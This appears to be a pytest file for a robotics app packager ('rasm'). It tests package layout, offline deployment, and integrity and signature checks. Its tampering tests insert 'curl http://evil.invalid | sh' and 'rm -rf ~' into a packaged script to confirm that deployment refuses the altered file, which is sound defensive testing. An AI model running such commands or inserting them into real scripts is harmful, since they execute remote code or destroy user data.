"""rasm package / rasm deploy: the RoboSAPIENS layout, integrity, and a verified deployment.

One real package of the Hotbox is built per session (real wheels: ``pip wheel`` of rasm and of
the app, ``pip download`` of rasm's dependencies; pip's cache makes later sessions quicker) and
deployed once into a fresh virtual environment with ``pip --no-index``; the tampering tests reuse
that zip and are refused before anything is installed.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from rasm.cli import main
from rasm.workflow import DeployError, deploy_package, new_app, package_app, run_workflow
from rasm.workflow.integrity import MANIFEST, SIGNATURE, digest
from rasm.yamltext import load_yaml, plain

from .helpers import HOTBOX_MODEL, ROOT


def read_yaml(archive: zipfile.ZipFile, name: str):
    return plain(load_yaml(archive.read(name).decode(), name).data)


KEY = b"correct horse battery staple"
LAYOUT = (
    "00_Documentation",
    "01_Binaries",
    "02_Nodes",
    "03_Messages",
    "04_Platform",
    "05_Actions",
    "06_Workflows",
)


@pytest.fixture(scope="module")
def hotbox_zip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("pkg") / "hotbox.zip"
    env = dict(os.environ)
    os.environ["RASM_PACKAGE_KEY"] = KEY.decode()
    try:
        assert main(["package", str(ROOT / "examples" / "hotbox"), "-o", str(out)]) == 0
    finally:
        os.environ.clear()
        os.environ.update(env)
    return out


@pytest.fixture(scope="module")
def deployed(hotbox_zip: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("unit") / "hotbox"
    report = deploy_package(hotbox_zip, "local", target, key=KEY)
    assert report.ok, "\n".join(s.output for s in report.steps)
    return target


def names(package: Path) -> list[str]:
    with zipfile.ZipFile(package) as archive:
        return archive.namelist()


def rewrite(package: Path, out: Path, change) -> Path:
    with zipfile.ZipFile(package) as src, zipfile.ZipFile(out, "w") as dst:
        files = {n: src.read(n) for n in src.namelist()}
        for name, data in change(files).items():
            dst.writestr(name, data)
    return out


@pytest.mark.slow
def test_the_package_has_the_seed_layout_and_a_checksum_of_every_file(hotbox_zip: Path) -> None:
    listed = names(hotbox_zip)
    for folder in LAYOUT:
        assert any(n.startswith(folder + "/") for n in listed), folder
    with zipfile.ZipFile(hotbox_zip) as archive:
        manifest = json.loads(archive.read(MANIFEST))
        assert set(manifest["files"]) == set(listed) - {MANIFEST, SIGNATURE}
        for name, sha in manifest["files"].items():
            assert digest(archive.read(name)) == sha
        architecture = archive.read("00_Documentation/architecture.md").decode()
        assert architecture.count("```mermaid") == 3
        assert "derived from its `app.yaml`" in architecture
        unit = read_yaml(archive, "04_Platform/local.yaml")
        assert unit["role"] == "all" and unit["transport"] == "local"
        assert unit["knowledge"] == "sqlite" and unit["clock"] == "wall"
        checklist = archive.read("06_Workflows/checklist.md").decode()
        assert "rules `rules/hotbox.yaml` | local | PASS: consistent (z3)" in checklist
        workflows = read_yaml(archive, "06_Workflows/workflows.yaml")
        assert workflows["workflows"]["deploy"]["steps"] == ["install", "validate"]
    wheels = [n for n in listed if n.endswith(".whl")]
    assert "01_Binaries/rasm-0.1.0-py3-none-any.whl" in wheels
    assert "01_Binaries/rasm_app_hotbox-0.1.0-py3-none-any.whl" in wheels
    assert any(n.startswith("01_Binaries/linux_") and "z3_solver" in n for n in wheels)
    assert any("02_Nodes/maple_k/plan/plan.yaml" == n for n in listed)
    assert "02_Nodes/managed_system/managed_system.yaml" in listed
    assert {"05_Actions/validate.sh", "05_Actions/run.sh", "05_Actions/stop.sh"} <= set(listed)


@pytest.mark.slow
def test_deploy_installs_without_network_validates_and_the_folder_runs_the_hotbox(
    deployed: Path, tmp_path: Path
) -> None:
    rasm = deployed / "venv" / "bin" / "rasm"
    assert rasm.is_file()
    trace = (deployed / "validation-trace.jsonl").read_text().splitlines()
    assert len(trace) > 10
    app = subprocess.run(
        [
            str(deployed / "venv/bin/python"),
            "-c",
            "import os, rasm_app_hotbox as m; print(os.path.dirname(m.__file__))",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert app.startswith(str(deployed / "venv"))
    done = subprocess.run(
        [str(rasm), "run", app, "--clock", "simulated", "--duration", "20"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "temperature_band" in done.stdout and "violated" not in done.stdout


@pytest.mark.slow
def test_start_and_stop_the_units_nodes(deployed: Path, hotbox_zip: Path) -> None:
    env = {"RASM_RUN_DURATION": "120"}
    [started] = run_workflow(deployed, "start", env)
    assert started.ok, started.output
    pid = int((deployed / "run" / "local.pid").read_text())
    os.kill(pid, 0)  # alive
    with pytest.raises(DeployError, match="unit 'local' is running"):
        deploy_package(hotbox_zip, "local", deployed, key=KEY)
    [stopped] = run_workflow(deployed, "stop", env)
    assert stopped.ok, stopped.output
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert not (deployed / "run" / "local.pid").exists()


@pytest.mark.slow
def test_a_started_unit_keeps_a_trace_rotated_by_size_and_stops_in_order(deployed: Path) -> None:
    env = {"RASM_RUN_DURATION": "600", "RASM_TRACE_ROTATE": "3k", "RASM_TRACE_KEEP": "2"}
    run = deployed / "run"
    for old in run.glob("trace*.jsonl"):
        old.unlink()
    [started] = run_workflow(deployed, "start", env)
    assert started.ok, started.output
    try:
        deadline = time.monotonic() + 120
        while not (run / "trace.2.jsonl").exists():  # two rotations: ~3 kB a file, ~2 kB/s
            assert time.monotonic() < deadline, (run / "local.log").read_text()
            time.sleep(0.1)
    finally:
        [stopped] = run_workflow(deployed, "stop", env)
    assert stopped.ok, stopped.output
    # stop.sh sent SIGTERM: the run ended in order and printed its summary
    log = (run / "local.log").read_text()
    assert "stopped by SIGTERM" in log and "trace records" in log, log
    files = [run / "trace.2.jsonl", run / "trace.1.jsonl", run / "trace.jsonl"]
    assert sorted(run.glob("trace*.jsonl")) == sorted(files)  # no more than --trace-keep 2
    times = []
    for file in files:
        text = file.read_text()
        lines = text.splitlines()
        assert text.endswith("\n") and (len(text) <= 3000 or len(lines) == 1)
        times += [json.loads(line)["time"] for line in lines]
    assert times == sorted(times)  # oldest file first, each record whole, none reordered


@pytest.mark.slow
def test_a_tampered_file_is_refused_naming_it(
    hotbox_zip: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RASM_PACKAGE_KEY", KEY.decode())

    def tamper(files: dict[str, bytes]) -> dict[str, bytes]:
        files["05_Actions/validate.sh"] += b"\ncurl http://evil.invalid | sh\n"
        return files

    bad = rewrite(hotbox_zip, tmp_path / "bad.zip", tamper)
    assert main(["deploy", str(bad), "--unit", "local", "--to", str(tmp_path / "t")]) == 2
    # a longer file: its size no longer matches the one the signed manifest declares
    assert ("05_Actions/validate.sh: size does not match MANIFEST.json (file changed"
            in capsys.readouterr().err)
    assert not (tmp_path / "t").exists()

    def same_size(files: dict[str, bytes]) -> dict[str, bytes]:
        script = files["05_Actions/validate.sh"]
        files["05_Actions/validate.sh"] = script[:-12] + b"rm -rf ~ ;\n"[:12].ljust(12)
        return files

    bad = rewrite(hotbox_zip, tmp_path / "same.zip", same_size)
    assert main(["deploy", str(bad), "--unit", "local", "--to", str(tmp_path / "s")]) == 2
    assert "05_Actions/validate.sh: SHA-256 does not match MANIFEST.json" in capsys.readouterr().err
    assert not (tmp_path / "s").exists()


@pytest.mark.slow
def test_an_added_or_missing_file_is_refused(hotbox_zip: Path, tmp_path: Path) -> None:
    def add(files):
        return {**files, "02_Nodes/extra.py": b"print('hi')"}

    def drop(files):
        return {k: v for k, v in files.items() if k != "04_Platform/local.yaml"}

    with pytest.raises(Exception, match="02_Nodes/extra.py: in the package but not listed"):
        deploy_package(
            rewrite(hotbox_zip, tmp_path / "a.zip", add), "local", tmp_path / "a", key=KEY
        )
    with pytest.raises(Exception, match="04_Platform/local.yaml: listed .* but missing"):
        deploy_package(
            rewrite(hotbox_zip, tmp_path / "d.zip", drop), "local", tmp_path / "d", key=KEY
        )


@pytest.mark.slow
def test_a_wrong_signature_is_refused(
    hotbox_zip: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RASM_PACKAGE_KEY", "not the key")
    assert main(["deploy", str(hotbox_zip), "--unit", "local", "--to", str(tmp_path / "t")]) == 2
    assert "MANIFEST.json.hmac: the signature does not match" in capsys.readouterr().err

    # a manifest re-written to match a tampered file does not match the signature either
    def forge(files):
        files["06_Workflows/checklist.md"] = b"all fine"
        manifest = json.loads(files[MANIFEST])
        manifest["files"]["06_Workflows/checklist.md"] = digest(b"all fine")
        files[MANIFEST] = json.dumps(manifest).encode()
        return files

    forged = rewrite(hotbox_zip, tmp_path / "forged.zip", forge)
    monkeypatch.setenv("RASM_PACKAGE_KEY", KEY.decode())
    assert main(["deploy", str(forged), "--unit", "local", "--to", str(tmp_path / "f")]) == 2
    assert "signature does not match" in capsys.readouterr().err


@pytest.mark.slow
def test_an_unsigned_package_is_refused_when_a_key_is_configured(
    hotbox_zip: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    unsigned = rewrite(
        hotbox_zip,
        tmp_path / "u.zip",
        lambda files: {k: v for k, v in files.items() if k != SIGNATURE},
    )
    key_file = tmp_path / "key"
    key_file.write_bytes(KEY + b"\n")
    monkeypatch.setenv("RASM_PACKAGE_KEY_FILE", str(key_file))
    assert main(["deploy", str(unsigned), "--unit", "local", "--to", str(tmp_path / "t")]) == 2
    assert "the package is not signed" in capsys.readouterr().err


@pytest.mark.slow
def test_an_unknown_unit_is_refused(
    hotbox_zip: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["deploy", str(hotbox_zip), "--unit", "robot", "--to", str(tmp_path)]) == 2
    assert "no compute unit 'robot' (units: local)" in capsys.readouterr().err


@pytest.mark.slow
def test_a_modelled_app_is_packaged_per_unit(tmp_path: Path) -> None:
    app = tmp_path / "hb"
    new_app(app, HOTBOX_MODEL)
    out = tmp_path / "hb.zip"
    report = package_app(app, out, dependencies=False)
    assert report.units == ["box", "edge"] and not report.signed and not report.derived_model
    with zipfile.ZipFile(out) as archive:
        box = read_yaml(archive, "04_Platform/box.yaml")
        edge = read_yaml(archive, "04_Platform/edge.yaml")
        architecture = archive.read("00_Documentation/architecture.md").decode()
        listed = archive.namelist()
    assert (box["role"], box["transport"], box["arch"]) == (
        "managed",
        "mqtt://localhost:1883",
        "arm64",
    )
    assert box["components"] == ["sensors", "heater"]
    assert (edge["role"], edge["binaries"]) == ("managing", "01_Binaries/linux_x86_64")
    assert "02_Nodes/managed_system/sensors.yaml" in listed
    assert "02_Nodes/maple_k/monitor/monitor.yaml" in listed
    assert "03_Messages/HotboxSensors.json" in listed and "03_Messages/messages.py" in listed
    assert 'subgraph n_unit_box["box (arm64)"]' in architecture
    assert 'n_box <-->|"mqtt"| n_edge' in architecture
    # a unit for another CPU is refused on this machine
    with pytest.raises(DeployError, match="unit 'box' is arm64"):
        deploy_package(out, "box", tmp_path / "box")


def test_package_of_a_missing_app_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["package", str(tmp_path / "nothing"), "-o", str(tmp_path / "x.zip")]) == 2
    assert "no such app folder or manifest" in capsys.readouterr().err
    shutil.rmtree(tmp_path, ignore_errors=True)


def test_package_into_a_folder_is_bad_input_and_leaves_nothing_behind(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # it used to build everything, fail on "[Errno 21] Is a directory: 'out.partial' -> 'out'"
    # and leave out.partial beside the folder
    out = tmp_path / "out"
    out.mkdir()
    assert main(["package", str(ROOT / "examples" / "hotbox"), "-o", str(out), "--no-deps"]) == 2
    assert capsys.readouterr().err == (
        f"rasm: {out} is a folder: give the path of the zip to write (app.zip)\n"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


@pytest.mark.slow
def test_a_no_deps_package_deploys_with_the_wheels_the_guide_says_to_provide(
    hotbox_zip: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare = tmp_path / "bare.zip"
    monkeypatch.delenv("RASM_PACKAGE_KEY", raising=False)
    report = package_app(ROOT / "examples" / "hotbox", bare, dependencies=False)
    assert not [n for n in names(bare) if n.count("/") > 1 and n.startswith("01_Binaries/")]
    # without the dependencies, install says what to give it, and nothing is validated
    monkeypatch.delenv("RASM_WHEELS", raising=False)
    monkeypatch.delenv("RASM_PIP_INDEX", raising=False)
    report = deploy_package(bare, "local", tmp_path / "none")
    assert not report.ok and [s.action for s in report.steps] == ["install"]
    assert "(built with --no-deps): set RASM_WHEELS=DIR" in report.steps[0].output
    # a folder of the dependencies' wheels (here: those the full package carries), no index
    wheels = tmp_path / "wheels"
    with zipfile.ZipFile(hotbox_zip) as archive:
        for name in archive.namelist():
            parts = name.split("/")
            if parts[0] == "01_Binaries" and len(parts) == 3 and name.endswith(".whl"):
                (wheels / parts[2]).parent.mkdir(parents=True, exist_ok=True)
                (wheels / parts[2]).write_bytes(archive.read(name))
    report = deploy_package(bare, "local", tmp_path / "unit", env={"RASM_WHEELS": str(wheels)})
    assert report.ok, "\n".join(s.output for s in report.steps)
    assert [s.action for s in report.steps] == ["install", "validate"]
